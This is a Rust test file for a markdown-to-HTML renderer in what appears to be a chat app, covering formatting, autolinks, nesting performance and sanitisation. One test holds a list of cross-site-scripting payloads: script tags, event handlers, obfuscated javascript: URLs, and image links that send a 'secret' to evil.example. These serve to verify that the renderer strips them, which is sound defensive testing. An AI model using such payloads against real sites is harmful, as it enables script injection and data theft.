//! What people write is shown, and does nothing else.

use ::everything::markdown::to_html;

#[test]
fn markdown_becomes_html() {
    let cases = [
        (
            "**bold** _soft_ ~~gone~~ `code`",
            "<p><strong>bold</strong> <em>soft</em> <del>gone</del> <code>code</code></p>",
        ),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("# Title", "<h3>Title</h3>"),
        (
            "> said\n\n1. one\n2. two",
            "<blockquote>\n<p>said</p>\n</blockquote>\n<ol>\n<li>one</li>\n<li>two</li>\n</ol>",
        ),
        ("```rust\nlet a = b < c;\n```", "<pre><code>let a = b &lt; c;\n</code></pre>"),
        ("@bob & co", "<p>@bob &amp; co</p>"),
    ];
    for (markdown, html) in cases {
        assert_eq!(to_html(markdown).trim_end(), html, "{markdown}");
    }
}

#[test]
fn addresses_become_links() {
    let link = |address: &str| {
        format!("<a href=\"{address}\" rel=\"noopener noreferrer nofollow\">{address}</a>")
    };
    let cases = [
        (
            "see https://example.com/a_b_c?d=e&f, please.",
            "https://example.com/a_b_c?d=e&amp;f",
            ", please.",
        ),
        ("(http://example.com/x_(y))", "http://example.com/x_(y)", ")"),
        ("<https://example.com>", "https://example.com", ""),
    ];
    for (markdown, address, after) in cases {
        let html = to_html(markdown);
        assert!(html.contains(&format!("{}{after}", link(address))), "{html}");
    }
    assert!(!to_html("`https://example.com`").contains("<a"));
    assert!(to_html("[here](/rooms/1)").contains("href=\"/rooms/1\""));
}

#[test]
fn nothing_in_a_message_runs_or_fetches() {
    let hostile = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe src=//evil.example></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#x0A;script:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x](//evil.example)",
        "[x](/\\evil.example)",
        "<javascript:alert(1)>",
        "![](//evil.example/?q=secret)",
        "![](https://evil.example/?q=secret)",
        "![x](data:image/svg+xml,<svg>)",
        "[![x](https://evil.example/a.png)](https://evil.example)",
        "![x][1]\n\n[1]: https://evil.example/b.png",
        "<style>@import '//evil.example'</style>",
        "<p style=\"background:url(//evil.example)\">x</p>",
        "<form action=//evil.example><input name=q></form>",
        "| a |\n| :-: |\n| <img src=x> |",
        "\" onmouseover=\"alert(1)",
        "[x](https://e.example \"\\\" onmouseover=alert(1)\")",
    ];
    for text in hostile {
        // A reply arrives piece by piece: each beginning of it is shown for a moment.
        for end in text.char_indices().map(|(at, char)| at + char.len_utf8()) {
            harmless(&text[..end]);
        }
        harmless(&format!("**bold _and {text} ```"));
    }
}

#[test]
fn deep_nesting_is_no_burden() {
    let started = std::time::Instant::now();
    for piece in [">", "[", "*a ", "- ", "1. ", "_*", "![", "<a ", "`", "|a"] {
        let text: String = piece.repeat(16_000 / piece.len());
        to_html(&text);
    }
    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
}

/// Looks at the tags themselves: their names and what stands inside of them.
fn harmless(markdown: &str) {
    let html = to_html(markdown);
    for tag in html.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap();
        let name = tag.trim_start_matches('/').split([' ', '\n']).next().unwrap();
        let rest = &tag[tag.find(name).unwrap() + name.len()..];
        let plain = "blockquote br code del em h3 h4 h5 h6 hr li ol p pre strong table tbody td th thead tr ul";
        assert!(name == "a" || plain.split(' ').any(|known| known == name), "{markdown}\n{html}");
        if name != "a" {
            assert!(rest.trim().is_empty() || name == "ol", "{markdown}\n{html}");
        } else if let Some(address) = rest.split("href=\"").nth(1) {
            let good =
                ["https://", "http://", "mailto:"].iter().any(|start| address.starts_with(start));
            let own = address.starts_with('/') && !address.starts_with("//");
            assert!((good || own) && rest.contains("rel=\""), "{markdown}\n{html}");
        }
    }
}
